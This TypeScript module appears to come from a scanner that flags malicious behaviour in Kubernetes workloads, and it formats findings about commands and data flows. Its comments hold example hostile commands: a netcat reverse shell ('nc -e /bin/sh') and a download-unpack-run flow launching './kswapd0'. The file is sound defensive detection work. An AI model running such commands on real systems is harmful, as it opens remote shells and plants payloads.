/**
 * What the behavioural rules share: each container's execution model (the workload layer builds it
 * once per container; rules only read it), evidence kept once per JSON path, and the few
 * descriptions several rules give of the same invocation or flow.
 *
 * The rules read the model's invocations, actions and flows and never the manifest's text: a
 * spelling the model understands is judged like every other spelling of the same behaviour.
 */
import type { Action, Value } from '../workload/action.js';
import type { Execution, Flow, Invocation } from '../workload/model.js';
import { isRecord } from '../workload/template.js';
import type { ContainerView, PodTemplateView, Workload } from '../workload/types.js';
import { hostMounts, toHostPath } from './host-paths.js';
import { memoize } from './memo.js';
import { quote, REDACTED } from './redact.js';
import type { Evidence } from './types.js';

/** One container with its pod template and its execution model. */
export interface ContainerExecution {
  readonly container: ContainerView;
  readonly template: PodTemplateView;
  readonly execution: Execution;
}

/** Every container of every template with its execution model, init containers first. */
export const containerExecutions: (workload: Workload) => readonly ContainerExecution[] = memoize(
  (workload: Workload) => {
    const out: ContainerExecution[] = [];
    for (const template of workload.templates) {
      for (const container of template.containers) {
        out.push({ container, template, execution: container.execution });
      }
    }
    return out;
  },
);

/** Evidence collected once per JSON path: the first finding at a path wins. */
export class EvidenceByPath {
  /** Created on the first evidence: most rules find none. */
  private byPath: Map<string, Evidence> | undefined;

  /** `detail` may be a function, so that it is computed only for a new path. */
  add(path: string, detail?: string | (() => string), reason?: string): void {
    this.byPath ??= new Map();
    if (this.byPath.has(path)) return;
    const evidence: Evidence = { path };
    if (detail !== undefined) evidence.detail = typeof detail === 'function' ? detail() : detail;
    if (reason !== undefined) evidence.reason = reason;
    this.byPath.set(path, evidence);
  }

  get size(): number {
    return this.byPath?.size ?? 0;
  }

  list(): Evidence[] {
    return this.byPath === undefined ? [] : [...this.byPath.values()];
  }
}

/** Decoded text (base64, hex, escapes) is what its author chose to hide: never quoted. */
function isDecoded(value: Value): boolean {
  return value.origins.some((origin) => origin.kind === 'decoded');
}

/** `sudo nohup nc -e /bin/sh h 4444`: launchers, then the program's words, quoted for a finding. */
export function describeInvocation(invocation: Invocation, max = 60): string {
  const shown = invocation.words.map((word, k) => {
    const value = invocation.argv[k];
    return value !== undefined && isDecoded(value) ? REDACTED : word;
  });
  const words = shown.length > 0 ? shown.join(' ') : invocation.program;
  const launchers = invocation.launchers.length > 0 ? `${invocation.launchers.join(' ')} ` : '';
  return quote(`${launchers}${words}`, max);
}

/** Where a flow's content came from, for a finding: a URL, a credential's source, a decoder. */
function describeSource(flow: Flow): string {
  const source = flow.source;
  switch (source.kind) {
    case 'network':
      return source.url;
    case 'credential':
      return `${source.credential} from ${source.source}`;
    case 'decoded':
      return `${source.encoding}-decoded text`;
    case 'stdin':
      return 'stdin';
    case 'env':
      return `$${source.name}`;
    case 'loop':
      return `a loop over ${source.variable}`;
  }
}

const SINK_WORDS: Readonly<Record<Flow['sink'], string>> = {
  exec: 'runs it',
  send: 'sends it',
  log: 'prints it to the log',
};

/** `downloads http://h/k.tgz, unpacks k.tgz, runs ./kswapd0 (by ./kswapd0)`: a flow as one line. */
export function describeFlow(flow: Flow, max = 120): string {
  const verb =
    flow.source.kind === 'network' ? 'downloads' : flow.source.kind === 'credential' ? 'reads' : 'takes';
  const steps = flow.steps.length > 0 ? `, ${flow.steps.join(', ')}` : '';
  const sink =
    flow.sink === 'send' && flow.destination !== undefined
      ? `sends it to ${flow.destination}`
      : SINK_WORDS[flow.sink];
  return quote(`${verb} ${describeSource(flow)}${steps}, ${sink} (${flow.by})`, max);
}

/** A value's text for a finding. */
export function describeValue(value: Value, max = 60): string {
  return isDecoded(value) ? REDACTED : quote(value.text, max);
}

/** The actions of one type, typed. */
export function actionsOf<T extends Action['type']>(
  execution: Execution,
  type: T,
): Extract<Action, { type: T }>[] {
  return execution.actions.filter((action): action is Extract<Action, { type: T }> => action.type === type);
}

/** The node path a container path shows through the container's hostPath mounts, if it is inside one. */
export function nodePathOf(entry: ContainerExecution, path: string): string | undefined {
  const mounts = hostMounts(entry.template, entry.container);
  return mounts.length === 0 ? undefined : toHostPath(path, mounts);
}

/** A literal env value of a container with the JSON path of its `value` field. */
export interface EnvField {
  name: string;
  value: string;
  path: string;
}

/** Longer env values are scripts or payloads, not a URL or an option: no rule looks at them. */
const MAX_ENV_VALUE = 4096;

/** Literal env values of a container (`valueFrom` has none) that `matches`, with their paths. */
export function envFieldsMatching(container: ContainerView, matches: (value: string) => boolean): EnvField[] {
  const raw = container.raw.env;
  const fields: EnvField[] = [];
  if (!Array.isArray(raw)) return fields;
  for (let index = 0; index < raw.length; index++) {
    const entry: unknown = raw[index];
    if (
      isRecord(entry) &&
      typeof entry.value === 'string' &&
      entry.value !== '' &&
      entry.value.length <= MAX_ENV_VALUE &&
      matches(entry.value)
    ) {
      fields.push({
        name: typeof entry.name === 'string' ? entry.name : '',
        value: entry.value,
        path: `${container.path}.env[${index}].value`,
      });
    }
  }
  return fields;
}
